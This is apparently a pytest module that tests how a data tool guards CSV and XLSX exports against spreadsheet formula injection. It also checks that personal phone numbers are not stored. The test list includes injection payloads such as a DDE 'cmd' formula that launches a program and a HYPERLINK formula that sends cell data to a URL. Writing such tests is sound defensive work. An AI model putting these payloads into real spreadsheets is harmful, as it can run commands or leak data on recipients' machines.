"""Section E of the attacks: cells that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import openpyxl
import pytest

from data.export import export_csv, export_xlsx
from data.guard import guard
from data.read import read_table
from tests.attacks.attack_files import HEADER, bring_in, bring_in_cells

FORMULAS = [
    "=1+1", "-3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("http://127.0.0.1:1/?"&A1,"x")', "=cmd|' /C calc'!A0",
    '"=1"', ";=1", "%0A=1", "+1+1", "'=1", "''=1", " =1", "＝1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_a_formula_is_kept_as_text_guarded_in_the_export_and_read_back(text):
    first = bring_in("date,province,note\n2023-04-01,Kampot," + '"' + guard(text).replace('"', '""') + '"\n')
    assert first.accepted["note"].tolist() == [text]
    exported = export_csv(first.accepted, "complaint")
    rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
    assert rows[0]["note"] == f"'{text}"
    assert bring_in(exported).accepted["note"].tolist() == [text]


@pytest.mark.parametrize("text", [text for text in FORMULAS if not text.startswith("'")], ids=repr)
def test_a_formula_that_comes_without_a_guard_is_stored_unchanged(text):
    result = bring_in("date,province,note\n2023-04-01,Kampot," + '"' + text.replace('"', '""') + '"\n')
    assert result.accepted["note"].tolist() == [text]


def test_a_telephone_number_is_never_stored():
    result = bring_in_cells("source_url", "+855 12 555 999")
    assert result.issues["code"].tolist() == ["personal_data"]
    assert not result.issues.astype("str").apply(lambda column: column.str.contains("555")).to_numpy().any()


def test_numbers_stay_numbers():
    result = bring_in("date,lat,lon\n2023-04-01,-33.8688,151.2093\n")
    rows = list(csv.DictReader(io.StringIO(export_csv(result.accepted, "complaint").decode("utf-8-sig"))))
    assert rows[0]["latitude"] == "-33.8688"


def test_the_report_guards_the_cells_and_the_headers_of_the_file():
    result = bring_in(HEADER.strip() + ",=1+1\n" + "a-1,2023-04-01,Kampot,,,3,@x,=2+2\n")
    header, row = csv.reader(io.StringIO(result.report().decode("utf-8-sig")))
    assert header[-1] == "'=1+1"
    assert row[-2:] == ["'@x", "'=2+2"]
    assert row[0] == "accepted"


@pytest.mark.parametrize("text", [*FORMULAS, "+855 12 555 999"], ids=repr)
def test_a_formula_stands_in_a_workbook_as_text_and_reads_back(text):
    record = bring_in("date,province,note\n2023-04-01,Kampot,x\n").accepted
    exported = export_xlsx(record.assign(note=text, extra=json.dumps({text: text})), "complaint")
    with zipfile.ZipFile(io.BytesIO(exported)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
        assert not [name for name in book.namelist() if "calcChain" in name or "externalLink" in name]
        assert b"<hyperlink" not in b"".join(book.read(name) for name in book.namelist())
    assert b"<f>" not in sheet
    assert b"<f " not in sheet
    cells = {cell.value: cell.data_type for row in openpyxl.load_workbook(io.BytesIO(exported)).active for cell in row}
    assert set(cells.values()) <= {"s", "n"}
    table = read_table(exported, "x.xlsx")
    assert table.rows["note"].tolist() == [text]


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_a_workbook_of_formulas_as_text_is_imported_unchanged(text):
    record = bring_in("date,province,note\n2023-04-01,Kampot,x\n").accepted
    again = bring_in(export_xlsx(record.assign(note=text), "complaint"), "x.xlsx").accepted
    assert again["note"].tolist() == [text]


def test_numbers_of_a_workbook_are_numbers():
    record = bring_in("date,lat,lon,victims\n2023-04-01,-33.8688,151.2093,3\n").accepted
    sheet = openpyxl.load_workbook(io.BytesIO(export_xlsx(record, "complaint"))).active
    found = dict(zip((cell.value for cell in sheet[1]), sheet[2], strict=True))
    assert (found["latitude"].value, found["latitude"].data_type) == (-33.8688, "n")
    assert (found["people_affected"].value, found["people_affected"].data_type) == (3, "n")
    assert found["received_date"].data_type == "s"
